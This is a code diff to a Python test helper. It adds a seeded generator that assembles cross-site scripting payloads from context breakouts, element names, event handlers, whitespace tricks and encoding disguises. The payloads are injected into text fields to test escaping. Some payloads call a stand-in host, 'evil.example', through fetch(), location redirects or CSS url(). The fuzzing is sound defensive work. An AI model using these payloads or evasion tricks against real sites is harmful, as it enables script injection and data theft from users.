@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
+from html import escape
 from itertools import cycle
+from random import Random
+from urllib.parse import quote
 
 from monitor.model import Assessed, CaseFile, Coaching, CoachingPoint, Material, Reason, StoryFile
 
@@ -103,9 +106,71 @@ STRINGS = (
 )
 
 
-def poisoned(material: Material, offset: int = 0) -> Material:
+BREAKS = (
+    "",
+    '"',
+    "'",
+    "`",
+    '">',
+    "'>",
+    "-->",
+    "*/",
+    "]]>",
+    "</a>",
+    "</style>",
+    "</title>",
+    "</script>",
+    "</svg>",
+    "\n",
+    "\x00",
+)
+"""How a string tries to leave the place where it is written."""
+ELEMENTS = (
+    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "details", "input", "body", "math", "form", "a", "b",
+    "marquee", "style", "link", "meta", "base", "template", "noscript", "x-foreign",
+)  # fmt: skip
+HANDLERS = (
+    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerdown",
+)  # fmt: skip
+GAPS = (" ", "/", "\t", "\n", "\x0c", " \u00a0", "//")
+SAYS = (
+    "alert({})",
+    "alert`{}`",
+    "top.alert({})",
+    "fetch('//evil.example/{}')",
+    "location='//evil.example/{}'",
+    "document.write({})",
+)
+ENDS = ("", ">", "/>", ' x="', " x='", "<!--", "//", "</script>", "{{{{7*7}}}}")
+DISGUISES = (
+    str, str.upper, str.swapcase, escape, quote, lambda text: text.replace("<", "\\u003c"),
+    lambda text: text.replace("<", "\uff1c"), lambda text: "\u202e" + text, lambda text: "".join(f"&#{ord(sign)};" for sign in text),
+)  # fmt: skip
+
+
+def generated(count: int, seed: int) -> tuple[str, ...]:
+    """Put together so many hostile strings, no two the same, from the ways in which such strings are made."""
+    chance = Random(seed)  # noqa: S311 - the same strings in every run
+    found: dict[str, None] = {}
+    while len(found) < count:
+        element, says = chance.choice(ELEMENTS), chance.choice(SAYS).format(len(found))
+        gap = chance.choice(GAPS)
+        core = chance.choice((
+            f"<{element}{gap}{chance.choice(HANDLERS)}={says}",
+            f"<{element}{gap}src=x{gap}{chance.choice(HANDLERS)}='{says}'",
+            f"<{element}>{says}</{element}>",
+            f"<{element}{gap}href=javascript:{says}",
+            f"<{element}{gap}style=background:url(//evil.example/{len(found)})",
+            f"{gap}{chance.choice(HANDLERS)}={says}{gap}autofocus",
+        ))  # fmt: skip
+        disguise = chance.choice(DISGUISES)
+        found[disguise(chance.choice(BREAKS) + core + chance.choice(ENDS))] = None
+    return tuple(found)
+
+
+def poisoned(material: Material, offset: int = 0, strings: Sequence[str] = STRINGS) -> Material:
     """Put hostile strings into every text field that could come from outside, or through the configuration."""
-    words = cycle(STRINGS[offset:] + STRINGS[:offset])
+    words = cycle([*strings[offset:], *strings[:offset]])
     return replace(
         material,
         title=next(words),
